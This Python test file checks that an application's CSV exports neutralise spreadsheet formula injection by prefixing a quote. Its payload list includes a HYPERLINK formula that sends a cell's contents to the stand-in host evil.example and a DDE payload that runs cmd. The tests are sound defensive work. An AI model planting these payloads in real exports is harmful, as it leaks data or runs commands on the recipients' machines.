"""Issue 11, item 6: CSV exports neutralise cells that a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io

import pytest

from core.csvsafe import safe_cell, write_csv

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_get_a_leading_quote(payload):
    assert safe_cell(payload) == "'" + payload
    rows = _cells(write_csv([{"name": payload, "score": 80}]))
    assert rows[1] == ["'" + payload, "80"]


def test_numbers_and_plain_text_are_kept():
    assert safe_cell(-3) == -3 and safe_cell(1.5) == 1.5 and safe_cell(None) == ""
    assert safe_cell("佐藤 優子") == "佐藤 優子"
    data = write_csv([{"a": "x", "b": -3}])
    assert data.startswith("\ufeff".encode()) and b"\r\n" in data


def test_team_progress_csv_neutralises_a_display_name(session, make_user):
    """Before: a display name =HYPERLINK(...) was written as is into the trainer's CSV."""
    from core.access import viewer_for
    from services import team_progress as tp

    make_user("evil", team="東京", display_name=PAYLOADS[0][:100])
    trainer = viewer_for(session, make_user("trainer", role="trainer", team="東京"))
    progress = tp.team_progress(session, trainer)
    data = tp.team_progress_csv(tp.progress_rows(progress))
    rows = _cells(data)
    names = [r[0] for r in rows[1:]]
    assert names == ["'" + PAYLOADS[0][:100]]
    assert not any(c.startswith(("=", "+", "-", "@")) for r in rows for c in r if c)


def test_every_csv_export_uses_the_one_helper():
    """No module but core.csvsafe writes CSV (csv.writer / DictWriter) for a download."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    writers = [p.relative_to(root).as_posix()
               for pkg in ("services", "app_pages", "ui", "core")
               for p in (root / pkg).rglob("*.py")
               if "csv.writer" in p.read_text(encoding="utf-8")
               or "DictWriter" in p.read_text(encoding="utf-8")]
    assert writers == ["core/csvsafe.py"]
